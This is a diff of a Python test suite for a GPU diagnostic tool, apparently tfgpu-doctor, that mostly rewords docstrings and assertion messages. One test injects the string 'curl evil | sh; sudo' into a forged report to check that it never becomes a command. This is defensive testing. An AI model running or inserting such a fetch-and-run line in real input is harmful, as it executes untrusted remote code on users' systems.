@@ -1,5 +1,5 @@
-"""A report of ours that is pasted gets the verdict that it states, and nothing in it is believed but
-facts."""
+"""Tests that a pasted report of the tool gets the verdict that it states, and that only its facts are
+believed."""
 
 from __future__ import annotations
 
@@ -46,7 +46,7 @@ LISTED = (
     "loaded_libraries",
     "registered_gpus",
 )
-"""What a report for the terminal lists whole."""
+"""The facts that a terminal report lists completely."""
 
 
 def options(form: str, **more: int) -> Options:
@@ -77,7 +77,7 @@ def values(diagnosis: Diagnosis) -> dict[str, object]:
 
 
 def held(facts: Facts, form: str, text: str) -> None:
-    """The text is read as a report of ours, with the same codes and facts."""
+    """Assert that the text is read as a report of the tool, with the same codes and facts."""
     before, after = judged(facts), judged(read(text.encode()))
     assert after.facts.of(OwnReport)
     assert [f.code for f in after.findings] == [f.code for f in before.findings]
@@ -91,7 +91,7 @@ def held(facts: Facts, form: str, text: str) -> None:
             [{**gpu, "pci_id": None, "memory_mib": None} for gpu in one.get("gpus", ())] for one in (had, has)
         ]  # type: ignore[attr-defined]
         assert kept[0] == kept[1]
-    else:  # but for names, which a report does not hold
+    else:  # except names, which a report does not contain
         assert has == values(judged(shared_facts(facts)))
     assert "a report of tfgpu-doctor" in rendered(after, options(form))
 
@@ -143,7 +143,8 @@ def facts() -> Facts:
 
 
 def test_report_in_an_issue_is_found(facts: Facts) -> None:
-    """Quoted, indented, with other line ends, between words, and copied from the rendered page."""
+    """The report is found if it is quoted, indented, has other line ends, stands between other words, or is
+    copied from the rendered page."""
     text = report(facts, "markdown")
     rendered_page = re.sub(r"^(?:```\w*|</?details>|</?summary>.*)$", "", text, flags=re.MULTILINE)
     for pasted in (
@@ -161,7 +162,7 @@ def test_text_around_a_report_is_said_not_to_be_read(facts: Facts) -> None:
     assert not [u for u in read(text.encode()).of(Unreadable) if "around" in u.what]
     issue = read(f"Hello,\n\n{text}\nSee also my log:\nCUDA_ERROR_OUT_OF_MEMORY".encode())
     assert [u.reason for u in issue.of(Unreadable) if "around" in u.what] == [
-        "3 lines; explain it separately"
+        "3 lines; for this text, run `explain` separately"
     ]
 
 
@@ -203,7 +204,7 @@ def test_nothing_of_a_forged_report_becomes_a_command_or_takes_long(facts: Facts
     for form in FORMS:
         assert "evil" not in rendered(forged, options(form))
     assert record.unpacked(block(b" " * (record.SIZE_LIMIT + 1))) is None, (
-        "more than the limit is not unpacked"
+        "a record above the limit is not unpacked"
     )
     text = report(facts, "text").replace("gpu-absent", "no-such-code").replace("sudo", "curl evil | sh; sudo")
     after = judged(read(text.encode()))
